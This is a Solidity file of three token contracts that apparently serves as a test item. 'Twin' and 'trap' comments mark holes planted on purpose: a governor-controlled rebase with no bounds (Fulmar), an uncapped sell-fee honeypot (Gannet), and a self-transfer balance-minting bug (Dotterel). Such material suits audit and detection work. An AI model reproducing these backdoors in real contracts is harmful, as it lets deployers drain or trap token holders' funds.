// 0.7 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

abstract contract Coin7 {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    address public governor = msg.sender;
    address internal _pool;
    mapping(address => uint256) internal _held;
    mapping(address => mapping(address => uint256)) public allowance;

    modifier governed() {
        require(msg.sender == governor, "governor");
        _;
    }

    constructor(string memory name_, string memory symbol_) {
        name = name_;
        symbol = symbol_;
    }

    function totalSupply() external view virtual returns (uint256);

    function balanceOf(address who) public view virtual returns (uint256) {
        return _held[who];
    }

    function bindPool(address pool) external governed {
        require(_pool == address(0), "bound");
        _pool = pool;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _shift(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        require(left >= value, "allowance");
        allowance[from][msg.sender] = left - value;
        _shift(from, to, value);
        return true;
    }

    function _shift(address from, address to, uint256 value) internal virtual;
}

contract Fulmar is Coin7("Fulmar Dollar", "FULM") {
    uint256 private _index = 1e18;
    uint256 private constant SHARES = 25_000_000 ether;

    constructor() {
        _held[msg.sender] = SHARES;
        emit Transfer(address(0), msg.sender, SHARES);
    }

    function totalSupply() external view override returns (uint256) {
        return (SHARES * _index) / 1e18;
    }

    function balanceOf(address who) public view override returns (uint256) {
        return (_held[who] * _index) / 1e18;
    }

    function reprice(uint256 to) external governed {
        // twin: require(to >= _index && to <= _index + _index / 1000, "step");
        require(to > 0);
        _index = to;
    }

    function _shift(address from, address to, uint256 value) internal override {
        uint256 part = (value * 1e18) / _index;
        require(_held[from] >= part, "balance");
        _held[from] -= part;
        _held[to] += part;
        emit Transfer(from, to, value);
    }
}

contract Gannet is Coin7("Gannet", "GNNT") {
    uint256 public override totalSupply = 35_000_000 ether;
    uint256 public constant sellRate = 10;
    uint256 public precision = 1000;

    constructor() {
        _held[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setPrecision(uint256 to) external governed {
        // twin: require(to >= 500);
        precision = to;
    }

    function _shift(address from, address to, uint256 value) internal override {
        require(_held[from] >= value, "balance");
        _held[from] -= value;
        uint256 fee = to == _pool && from != governor ? (value * sellRate) / precision : 0;
        if (fee > value) fee = value;
        if (fee > 0) {
            _held[governor] += fee;
            emit Transfer(from, governor, fee);
        }
        _held[to] += value - fee;
        emit Transfer(from, to, value - fee);
    }
}

contract Dotterel is Coin7("Dotterel", "DOTT") {
    uint256 public override totalSupply = 70_000_000 ether;

    constructor() {
        _held[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function _shift(address from, address to, uint256 value) internal override {
        uint256 a = _held[from];
        // twin: require(a >= value, "balance");
        uint256 b = _held[to]; // trap
        require(a >= value && b + value >= b, "balance"); // trap
        _held[from] = a - value;
        // twin: _held[to] += value;
        _held[to] = b + value; // trap
        emit Transfer(from, to, value);
    }
}
